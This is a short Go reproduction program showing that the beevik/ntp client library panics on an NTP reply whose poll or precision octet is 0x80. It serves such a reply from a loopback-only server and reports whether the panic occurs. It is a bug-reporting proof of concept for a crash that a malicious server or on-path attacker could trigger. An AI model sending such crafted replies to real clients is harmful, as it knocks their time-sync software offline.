// Command repro shows that github.com/beevik/ntp's client panics on an NTP
// reply whose poll or precision octet is 0x80 (-128).
//
// It answers one ntp.Query on a loopback UDP socket with a well-formed
// 48-octet NTPv4 server reply (origin timestamp echoed, as any server or
// on-path attacker can) and exits 1 with the panic when the library panics,
// 0 when Query returns normally.
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"time"

	"github.com/beevik/ntp"
)

func main() {
	present := false
	for _, c := range []struct {
		field  string
		offset int
	}{{"poll", 2}, {"precision", 3}} {
		err, panicked := query(c.offset, 0x80)
		if panicked != nil {
			present = true
			fmt.Printf("present: %s octet 0x80: ntp.Query panicked: %v\n", c.field, panicked)
			continue
		}
		fmt.Printf("absent: %s octet 0x80: ntp.Query returned (err=%v)\n", c.field, err)
	}
	if present {
		os.Exit(1)
	}
}

// query runs ntp.Query against a one-shot server whose reply carries value
// at offset, and returns Query's error or the value it panicked with.
func query(offset int, value byte) (err error, panicked any) {
	pc, lerr := net.ListenPacket("udp4", "127.0.0.1:0")
	if lerr != nil {
		fmt.Fprintln(os.Stderr, "repro:", lerr)
		os.Exit(2)
	}
	defer pc.Close()
	go serve(pc, offset, value)

	defer func() { panicked = recover() }()
	_, err = ntp.QueryWithOptions(pc.LocalAddr().String(), ntp.QueryOptions{Timeout: 5 * time.Second})
	return err, nil
}

func serve(pc net.PacketConn, offset int, value byte) {
	req := make([]byte, 1024)
	n, from, err := pc.ReadFrom(req)
	if err != nil || n < 48 {
		return
	}
	now := uint64(time.Now().Unix()+2208988800) << 32
	reply := make([]byte, 48)
	reply[0] = 0<<6 | 4<<3 | 4 // leap 0, version 4, mode 4 (server)
	reply[1] = 2               // stratum 2
	reply[2] = 6               // poll 2^6 s
	reply[3] = 0xec            // precision 2^-20 s
	copy(reply[12:16], "\x7f\x00\x00\x01")
	binary.BigEndian.PutUint64(reply[16:24], now)       // reference time
	copy(reply[24:32], req[40:48])                      // origin := the request's transmit time
	binary.BigEndian.PutUint64(reply[32:40], now)       // receive time
	binary.BigEndian.PutUint64(reply[40:48], now+1<<20) // transmit time
	reply[offset] = value
	pc.WriteTo(reply, from)
}
